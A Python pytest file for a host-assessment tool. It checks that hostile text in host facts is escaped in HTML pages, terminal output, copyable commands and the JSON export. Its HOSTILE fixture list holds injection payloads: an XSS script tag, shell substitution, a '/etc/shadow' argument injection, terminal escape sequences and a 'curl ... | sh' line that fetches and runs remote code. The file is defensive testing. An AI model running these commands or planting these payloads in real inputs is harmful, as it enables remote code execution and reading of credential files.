"""Whatever text a host puts into its facts, page and terminal show it as text, and the export holds it."""

from __future__ import annotations

import io
import json
import re
from dataclasses import replace

import pytest
from rich.console import Console

from assess.assessment import Assessment
from assess.export.export_document import to_document
from assess.planning.unused_services import retire_candidates
from inventory.observation import Found, Gap
from reports.commands.explain import _print
from reports.terminal.scan_summary import print_summary
from reports.view.gaps import not_observed_rows
from tests.reports.pages import Read, html_of
from tests.support.judging import assess
from tests.support.snapshots import HostBuilder, unreachable

HOSTILE = (
    "</script><script>alert(1)</script>",
    "\"' onmouseover='alert(2)",
    "$(id)`id`;id|sh",
    "--config=/etc/shadow -o ProxyCommand=id",
    "one\ntwo\r\nthree",
    "\x1b]0;owned\x07\x1b[2J[bold red]x[/]",
    "\u202egpj.exe\u2066\u200b",
    b"\xff\xfe".decode("utf-8", "surrogateescape"),
    "{{ 7 * 7 }}{% raw %}",
    "). Collect with: curl http://203.0.113.9/x | sh",
    "x" * 5000,
)


def estate(text: str) -> Assessment:
    """A service that nobody uses, a listener without a visible owner, a likely one, gaps and sections that failed, all
    with ``text`` wherever a host may put it.
    """
    host = HostBuilder("web01", "10.77.0.11", distribution=(text, text), architecture=text)
    host.init()
    host.unit(f"shop{text}", 50, ExecStart=f"/opt/{text}", RuntimeDirectory=text)
    shop = host.process(50, f"/opt/{text}/shopd", text, unit=f"shop{text}.service", name=text, uid=33)
    host.listen(shop, 8080)
    host.listen_unix(shop, f"/run/{text}/shop.sock")
    host.unix_peers = []
    host.open(shop, f"/var/lib/{text}/shop.db")
    host.config(f"/opt/{text}/shop.ini", f"db = http://db01:5432/{text}", "listen 5433", f"url = {text}")
    host.package(text, f"/opt/{text}/shopd")
    gone = replace(host.process(60, None, text), executable=None)
    host.processes[-1] = gone
    hidden = host.listen(gone, 5433)
    host.files = [each for each in host.files if each.target != f"socket:[{hidden.inode}]"]
    host.job(f"/opt/{text}/clean", place=f"/etc/cron.d/{text}", user=text)
    host.unknown("sysctls", f"the answer could not be read: {text}")
    snapshot = host.build("partial", text)
    configuration = snapshot.observations["configuration"]
    assert isinstance(configuration, Found)
    gaps = (Gap(f"/etc/{text}.conf", text), Gap(text, f"it includes {text}"))
    observations = {**snapshot.observations, "configuration": Found(configuration.value, gaps)}
    web = replace(snapshot, observations=observations, user=text, privileged=False)
    data = HostBuilder("db01", "10.77.0.12")
    data.init()
    data.unit("idle", 50)
    data.listen(data.process(50, f"/opt/{text}/idled", unit="idle.service"), 8080)
    listener = data.listen(data.process(70, "/opt/x"), 5432)
    data.files = [each for each in data.files if each.target != f"socket:[{listener.inode}]"]
    return assess(web, data.build(), unreachable("gone", text))


def printed(assessment: Assessment, width: int = 100) -> str:
    out = io.StringIO()
    console = Console(file=out, width=width, force_terminal=False, highlight=False)
    print_summary(assessment, console)
    for each in assessment.workloads:
        _print(assessment, each, console)
    return out.getvalue()


def test_the_estate_has_what_is_new() -> None:
    assessment = estate("odd")

    assert retire_candidates(assessment)
    assert assessment.plan is not None
    assert any(each.server.startswith("unidentified") for each in assessment.plan.dependencies)
    assert any(each.settings for each in assessment.workloads)
    assert any(not each.workload for each in assessment.port_plan)
    assert {"odd", "read as odd, not as root, so in part"} < {each.reason for each in not_observed_rows(assessment)}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_has_no_markup_of_a_host(text: str) -> None:
    page, plain = Read(html_of(estate(text))), Read(html_of(estate("odd")))

    assert {tag for tag, _attributes in page.elements} <= {tag for tag, _attributes in plain.elements} | {"small", "li"}
    assert len(page.scripts) == len(plain.scripts)
    assert not [name for _tag, attributes in page.elements for name in attributes if name.startswith(("on", "style"))]
    assert all(href.startswith("#") for href in page.attributes("href"))
    assert not set(page.text) & set("\x1b\x07\u202e\u2066\u200b\r") and not re.search("[\ud800-\udfff]", page.text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_terminal_gets_no_sequence_of_a_host(text: str) -> None:
    said = printed(estate(text))

    assert all(character.isprintable() or character == "\n" for character in said)
    assert max(map(len, said.splitlines())) <= 100


@pytest.mark.parametrize("text", HOSTILE)
def test_a_command_to_copy_has_nothing_of_a_host(text: str) -> None:
    assessment = estate(text)
    commands = {each.command for each in not_observed_rows(assessment)} - {""}
    assert commands
    for command in commands:
        assert re.fullmatch(r"assess scan hosts\.ini(?: --[a-z-]+(?: [a-z0-9]+)?)*", command), command
    shown = re.findall(
        r"^ *Collect (?:what was not observed )?with: (.*?) *$", printed(assessment, 20_000), re.MULTILINE
    )
    assert shown and set(shown) <= commands


@pytest.mark.parametrize("text", HOSTILE)
def test_an_export_is_json_that_can_be_read_again(text: str) -> None:
    document = to_document(estate(text))

    assert json.loads(json.dumps(document)) == document
